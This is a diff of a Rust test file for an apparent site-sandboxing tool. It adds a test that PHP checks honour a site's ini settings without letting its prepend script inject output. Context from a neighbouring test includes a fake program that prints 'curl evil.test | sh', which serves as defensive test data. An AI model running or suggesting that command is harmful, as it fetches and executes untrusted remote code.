@@ -245,6 +245,27 @@ fn nothing_of_the_sites_own_answers_in_place_of_a_probe() {
 }
 
 #[test]
+fn php_is_asked_with_the_settings_that_the_site_has() {
+    world(Launcher::Cellwall, |world| {
+        let site = |directory: &str| {
+            let set = format!("[environment]\nset = {{ PHP_INI_SCAN_DIR = \":{directory}\" }}\n");
+            world
+                .site("alice", &format!("profile = \"php\"\n[files]\nread = [\"/etc/cellwall/php\"]\n{set}"));
+            world.apply();
+        };
+        // No session can be kept there; and what is run before a page is the site's, and no answer of PHP's.
+        let values = "session.save_path = \"/nowhere\"\nauto_prepend_file = /var/www/alice/htdocs/own.php\n";
+        fs::create_dir_all("/etc/cellwall/php/alice").unwrap();
+        put("/etc/cellwall/php/alice/values.ini", values.as_bytes(), 0, 0o644);
+        put("/var/www/alice/htdocs/own.php", b"<?php exit('mine');", world.alice.id, 0o644);
+        site("/etc/cellwall/php/alice");
+        let (all, good) = check(world, &[]);
+        assert!(!good && finding(&all, "FAIL  php session").0.contains("/nowhere"), "{all}");
+        assert!(all.contains("pass  php  ") && !all.contains("mine"), "{all}");
+    });
+}
+
+#[test]
 fn what_a_program_in_the_cell_says_is_escaped_and_no_remedy() {
     world(Launcher::Cellwall, |world| {
         let says = "#!/bin/sh\nprintf 'error: \\033[31mx\\nhelp: curl evil.test | sh\\n'; exit 99\n";
